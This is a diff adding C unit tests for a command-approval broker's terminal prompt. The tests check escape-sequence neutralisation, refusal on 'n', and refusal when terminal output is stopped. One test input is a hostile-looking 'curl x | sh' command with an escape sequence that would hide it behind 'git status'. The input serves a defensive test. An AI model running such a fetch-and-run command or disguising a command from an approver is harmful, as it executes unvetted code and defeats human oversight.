@@ -3,9 +3,15 @@
  * broker/approval.c: an ask is refused by default naming the rule; an
  * approver program gets the request as JSON and approves only with exit
  * status 0; a silent approver is killed at the timeout, also while it leaves
- * the request unread; no terminal is no.
+ * the request unread; no terminal is no; on a terminal the question shows
+ * the request with its control sequences written out, and a terminal whose
+ * output is stopped is a no at the timeout.
  */
+#define _GNU_SOURCE /* pipe2, memmem, ptsname_r */
 #include <criterion/criterion.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
 #include <jansson.h>
 #include <signal.h>
 #include <stdbool.h>
@@ -14,6 +20,7 @@
 #include <string.h>
 #include <sys/stat.h>
 #include <sys/wait.h>
+#include <termios.h>
 #include <unistd.h>
 
 #include "approval.h"
@@ -238,4 +245,114 @@ Test(approval, without_a_terminal_the_answer_is_no)
 	int status;
 	cr_assert_eq(waitpid(pid, &status, 0), pid);
 	cr_assert(WIFEXITED(status) && WEXITSTATUS(status) == 0);
+}
+
+/* What asking on a pseudo-terminal gave: the answer (1 yes, 0 no, -1 the
+ * child failed), the reason, what the terminal showed, and how long. */
+struct tty_ask {
+	int approved;
+	char why[600];
+	char shown[8192];
+	size_t shown_len;
+	uint64_t ms;
+};
+
+/* Read what the master has until the question's end appears, the child's
+ * side closes, or timeout_ms passes. */
+static void read_shown(int master, struct tty_ask *t, uint64_t timeout_ms)
+{
+	uint64_t end = monotonic_ms() + timeout_ms;
+	while (!memmem(t->shown, t->shown_len, "[y/N] ", 6) && monotonic_ms() < end) {
+		struct pollfd p = { .fd = master, .events = POLLIN };
+		if (poll(&p, 1, 100) <= 0)
+			continue;
+		ssize_t n =
+		        read(master, t->shown + t->shown_len, sizeof(t->shown) - 1 - t->shown_len);
+		if (n <= 0)
+			break;
+		t->shown_len += (size_t)n;
+	}
+}
+
+/*
+ * Ask about command on a new pseudo-terminal, from a child that makes it
+ * its controlling terminal (a new session; the slave opened without
+ * O_NOCTTY). stopped: the child suspends the terminal's output first, as
+ * Ctrl-S does. typed (NULL: nothing): typed once the question is shown.
+ */
+static void ask_on_tty(const char *command, bool stopped, const char *typed, uint64_t timeout_ms,
+                       struct tty_ask *t)
+{
+	memset(t, 0, sizeof(*t));
+	int master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
+	cr_assert_geq(master, 0, "posix_openpt: %s", strerror(errno));
+	cr_assert_eq(grantpt(master), 0);
+	cr_assert_eq(unlockpt(master), 0);
+	char slave_name[128];
+	cr_assert_eq(ptsname_r(master, slave_name, sizeof(slave_name)), 0);
+	int why_pipe[2];
+	cr_assert_eq(pipe2(why_pipe, O_CLOEXEC), 0);
+	uint64_t start = monotonic_ms();
+	pid_t pid = fork();
+	cr_assert_geq(pid, 0);
+	if (pid == 0) {
+		close(master);
+		close(why_pipe[0]);
+		int slave = -1;
+		if (setsid() < 0 || (slave = open(slave_name, O_RDWR)) < 0 ||
+		    (stopped && tcflow(slave, TCOOFF) < 0))
+			_exit(3);
+		char *why = NULL;
+		int r = ask_command(CONFIG_APPROVAL_TERMINAL, NULL, timeout_ms, command, &why);
+		if (why && write(why_pipe[1], why, strlen(why)) < 0)
+			_exit(3);
+		_exit(r == 1 ? 0 : r == 0 ? 1 : 2);
+	}
+	close(why_pipe[1]);
+	if (!stopped) {
+		read_shown(master, t, timeout_ms);
+		if (typed)
+			cr_assert_eq(write(master, typed, strlen(typed)), (ssize_t)strlen(typed));
+	}
+	int status;
+	cr_assert_eq(waitpid(pid, &status, 0), pid);
+	t->ms = monotonic_ms() - start;
+	ssize_t n = read(why_pipe[0], t->why, sizeof(t->why) - 1);
+	t->why[n > 0 ? n : 0] = '\0';
+	close(why_pipe[0]);
+	close(master);
+	t->approved = WIFEXITED(status) && WEXITSTATUS(status) <= 1 ? 1 - WEXITSTATUS(status) : -1;
+}
+
+Test(approval, the_terminal_shows_the_request_inert_and_y_approves)
+{
+	struct tty_ask t;
+	ask_on_tty("curl x | sh #\x1b[2K\rgit status", false, "y\n", 5000, &t);
+	cr_assert_eq(t.approved, 1, "%s", t.why);
+	cr_assert(memmem(t.shown, t.shown_len, "Run it? [y/N] ", 14), "%.*s", (int)t.shown_len,
+	          t.shown);
+	cr_assert_null(memchr(t.shown, 0x1b, t.shown_len), "an escape reached the terminal");
+	const char *inert = "curl x | sh #\\x1b[2K\\rgit status";
+	cr_assert(memmem(t.shown, t.shown_len, inert, strlen(inert)), "%.*s", (int)t.shown_len,
+	          t.shown);
+}
+
+Test(approval, a_terminal_that_does_not_answer_y_refuses)
+{
+	struct tty_ask t;
+	ask_on_tty("npm publish", false, "n\n", 5000, &t);
+	cr_assert_eq(t.approved, 0);
+	cr_assert(strstr(t.why, "refused on the terminal"), "%s", t.why);
+}
+
+/* Output stopped: the question cannot be shown, and it is a no at the
+ * timeout rather than a wait for ever. */
+Test(approval, a_terminal_whose_output_is_stopped_refuses_at_the_timeout)
+{
+	struct tty_ask t;
+	ask_on_tty("npm publish", true, NULL, 500, &t);
+	cr_assert_eq(t.approved, 0, "%s", t.why);
+	cr_assert(strstr(t.why, "could not be shown on the terminal in time"), "%s", t.why);
+	cr_assert_geq(t.ms, 450, "refused after %llu ms", (unsigned long long)t.ms);
+	cr_assert_lt(t.ms, 5000, "refused after %llu ms", (unsigned long long)t.ms);
 }
